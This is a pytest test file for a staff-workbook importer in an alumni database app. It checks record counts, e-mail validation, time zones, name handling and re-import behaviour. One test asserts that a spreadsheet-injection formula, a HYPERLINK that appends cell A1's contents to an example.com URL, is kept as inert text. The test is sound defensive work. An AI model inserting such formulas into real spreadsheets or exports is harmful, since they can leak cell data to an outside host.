"""The staff workbook, against what a careful reader finds in it."""

import json
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask import Flask

from bsm_alumni.alumni.models import Alumnus, AlumnusEmail
from bsm_alumni.cohorts.models import Cohort, Enrolment
from bsm_alumni.database import writing
from bsm_alumni.events.models import Event, Slot
from bsm_alumni.extensions import db
from bsm_alumni.imports.models import ImportBatch, ImportProblem
from bsm_alumni.imports.report import head_of, problems_of
from bsm_alumni.imports.service_run import run_import

ROOT = Path(__file__).parents[2]
WORKBOOK = ROOT / "demo" / "staff-workbook.xlsx"
EXPECTED = json.loads((Path(__file__).parent / "data" / "staff-workbook.expected.json").read_text())


def imported(path: Path = WORKBOOK, kind: str = "workbook") -> ImportBatch:
    with writing():
        batch = run_import(kind, path)
        db.session.commit()
    return batch


@pytest.fixture
def batch(app: Flask) -> ImportBatch:
    return imported()


def count(model: type) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model)) or 0


def problems(batch: ImportBatch, kind: str) -> list[ImportProblem]:
    select = sa.select(ImportProblem).where(ImportProblem.batch_id == batch.id, ImportProblem.kind == kind)
    return list(db.session.scalars(select.order_by(ImportProblem.id)))


def test_it_finds_what_a_careful_reader_finds(batch: ImportBatch) -> None:
    head = head_of(batch, applied=True)
    codes = Counter(one["code"] for one in problems_of(batch.id))
    unusable = sum(
        n for code, n in codes.items() if code in {"email_missing", "email_without_at", "email_without_domain"}
    )
    found = {
        "people": head["people"]["new"],
        "duplicate_rows": head["people"]["merged"],
        "rows_without_usable_email": unusable,
        "blank_rows": head["structure"]["blank"],
        "formula_remarks": codes["formula_kept_as_text"],
        "sharing": {
            "empty": head["sharing"]["none_given"],
            "yes": head["sharing"]["all"],
            "some": head["sharing"]["some"],
            "no": head["sharing"]["no"],
        },
        "cohorts": head["cohorts"]["new"],
        "webinars": head["events"]["new"],
    }
    assert found == EXPECTED


def test_the_report_counts_rows_of_all_three_sheets(batch: ImportBatch) -> None:
    assert head_of(batch, applied=True)["rows"] == {"read": 697, "applied": 697, "skipped": 0, "unchanged": 0}
    assert (count(Alumnus), count(Cohort), count(Event), count(Slot)) == (640, 8, 13, 13)
    assert count(Enrolment) == 640


def test_the_first_webinar_is_at_two_in_the_afternoon_utc_and_the_label_is_noted(batch: ImportBatch) -> None:
    event = db.session.scalars(sa.select(Event).order_by(Event.starts_at).limit(1)).one()
    assert (event.starts_at, event.zone) == (datetime(2026, 7, 8, 14, 0, tzinfo=UTC), "America/New_York")
    note = problems(batch, "clock_letters")[0]
    assert (note.sheet, note.row, note.column, note.severity.value) == ("Webinars 2026", 2, "Time", "note")
    assert "10am EST = 15:00 UTC, 4pm CET = 15:00 UTC" in note.problem


def test_formulas_stay_text(batch: ImportBatch) -> None:
    remarks = db.session.scalars(sa.select(Alumnus.remarks).where(Alumnus.remarks.startswith("="))).all()
    assert remarks == ['=HYPERLINK("http://example.com/"&A1,"click")'] * 5


def test_unusable_addresses_are_named_with_row_column_and_a_way_to_mend_them(batch: ImportBatch) -> None:
    one = problems(batch, "email_without_at")[0]
    assert (one.row, one.column, one.value) == (371, "E-mail", "gabrielly.cassiano.343 at example.org")
    assert one.problem == (
        "'gabrielly.cassiano.343 at example.org' has no @. Write it as name@domain or leave it empty."
    )


def test_names_stay_as_written_and_get_a_latin_form(batch: ImportBatch) -> None:
    person = db.session.scalars(sa.select(Alumnus).where(Alumnus.family_name == "蔡")).one()
    assert (person.display_name, person.latin_name) == ("蔡静", "Cai Jing")
    wade = db.session.scalars(sa.select(Alumnus).where(Alumnus.family_name == "WADE")).first()
    assert wade is not None
    assert (wade.display_name, wade.latin_name) == ("Karen WADE", "")


def test_two_addresses_in_one_cell_are_both_kept(batch: ImportBatch) -> None:
    person = db.session.scalars(
        sa.select(Alumnus).join(AlumnusEmail).where(AlumnusEmail.folded == "breno.da.145@example.org")
    ).one()
    assert [email.address for email in person.emails] == [
        "breno.da.145@example.org",
        "second.breno.da.145@example.org",
    ]


def test_importing_twice_adds_nothing(batch: ImportBatch) -> None:
    before = (count(Alumnus), count(AlumnusEmail), count(Cohort), count(Event), count(Enrolment))
    head = head_of(imported(), applied=True)
    assert head["people"] == {"new": 0, "updated": 0, "merged": 0}
    assert (head["cohorts"], head["events"]) == ({"new": 0}, {"new": 0})
    assert head["rows"] == {"read": 697, "applied": 0, "skipped": 697, "unchanged": 697}
    assert (count(Alumnus), count(AlumnusEmail), count(Cohort), count(Event), count(Enrolment)) == before
